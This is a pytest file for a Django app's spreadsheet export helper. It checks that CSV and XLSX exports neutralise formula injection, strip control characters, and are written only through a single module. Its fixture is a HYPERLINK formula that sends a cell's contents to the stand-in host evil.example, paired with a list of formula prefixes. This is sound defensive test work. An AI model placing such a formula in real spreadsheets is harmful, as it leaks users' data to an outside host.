"""Spreadsheets never hold a live formula: one helper (`declics.exports`) for every export."""

import ast
import csv
import io
from pathlib import Path

import pytest
from django.conf import settings
from openpyxl import load_workbook

from declics.exports import FORMULA_STARTS, CsvWriter, is_formula_like, spreadsheet_safe, write_xlsx

PAYLOAD = 'HYPERLINK("https://evil.example/?"&A2,"Voir")'
PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\u00a0+"]


def test_every_formula_start_is_tested():
    assert set(FORMULA_STARTS) <= set(PREFIXES)


@pytest.mark.parametrize("prefix", PREFIXES)
def test_formula_like_text_is_inert_in_csv(prefix):
    text = f"{prefix}{PAYLOAD}"
    assert is_formula_like(text)
    assert spreadsheet_safe(text) == f"'{text}"
    buffer = io.StringIO(newline="")
    CsvWriter(buffer).writerow([text, "Alice", 3])
    (row,) = csv.reader(io.StringIO(buffer.getvalue(), newline=""))
    assert row == [f"'{text}", "Alice", "3"]


@pytest.mark.parametrize(
    "value", ["Alice", "Jean-Pierre", "alice@example.org", "Saint-Denis", "", "a=b", 42, -3, 1.5, None]
)
def test_ordinary_values_are_unchanged(value):
    assert spreadsheet_safe(value) == value


@pytest.mark.parametrize("prefix", PREFIXES)
def test_formula_like_text_is_a_string_cell_in_xlsx(prefix):
    text = f"{prefix}{PAYLOAD}"
    buffer = io.BytesIO()
    count = write_xlsx(buffer, title="Feuille", header=[f"{prefix}Nom"], rows=[[text, "#N/A", 7]])
    assert count == 1
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    header, cell, error_like, number = sheet["A1"], sheet["A2"], sheet["B2"], sheet["C2"]
    # XML parsers read a lone carriage return as a line feed: compare the text the way Excel stores it.
    expected = text.replace("\r", "\n")
    assert (cell.data_type, cell.value.replace("\r", "\n")) == ("s", expected)
    assert cell.quotePrefix is True
    assert (header.data_type, header.value.replace("\r", "\n")) == ("s", f"{prefix}Nom".replace("\r", "\n"))
    assert (error_like.data_type, error_like.value) == ("s", "#N/A")
    assert (number.data_type, number.value) == ("n", 7)
    assert b"<f>" not in _sheet_xml(buffer.getvalue())


def _sheet_xml(content: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return b"".join(archive.read(name) for name in names)


def test_xlsx_drops_the_control_characters_a_workbook_cannot_hold():
    buffer = io.BytesIO()
    write_xlsx(buffer, title="Feuille\x01", header=["Nom"], rows=[["Ali\x00ce\x1b"]])
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert (sheet.title, sheet["A2"].value) == ("Feuille", "Alice")


# Only declics/exports.py may write spreadsheets: a new export elsewhere fails here until it uses it.
SPREADSHEET_WRITERS = {"openpyxl", "xlsxwriter", "xlwt", "odf", "pyexcel", "tablib", "pandas"}
CSV_WRITERS = {"writer", "DictWriter"}


def _project_modules():
    base = Path(settings.BASE_DIR)
    for path in sorted(base.rglob("*.py")):
        parts = path.relative_to(base).parts
        if parts[0] in {"tests", "node_modules"} or parts[0].startswith(".") or "migrations" in parts:
            continue
        yield path.relative_to(base).as_posix(), ast.parse(path.read_text(encoding="utf-8"))


def _spreadsheet_writes(tree) -> list[str]:
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found += [a.name for a in node.names if a.name.split(".")[0] in SPREADSHEET_WRITERS]
        elif isinstance(node, ast.ImportFrom) and node.module:
            if node.module.split(".")[0] in SPREADSHEET_WRITERS:
                found.append(node.module)
            if node.module == "csv":
                found += [f"csv.{a.name}" for a in node.names if a.name in CSV_WRITERS]
        elif (
            isinstance(node, ast.Attribute)
            and node.attr in CSV_WRITERS
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(f"csv.{node.attr}")
    return found


def test_only_the_export_helper_writes_spreadsheets():
    offenders = {
        path: writes
        for path, tree in _project_modules()
        if path != "declics/exports.py" and (writes := _spreadsheet_writes(tree))
    }
    assert offenders == {}


def test_the_guard_sees_a_spreadsheet_writer():
    tree = ast.parse("import csv\nfrom openpyxl import Workbook\nw = csv.writer(f)\n")
    assert _spreadsheet_writes(tree) == ["openpyxl", "csv.writer"]
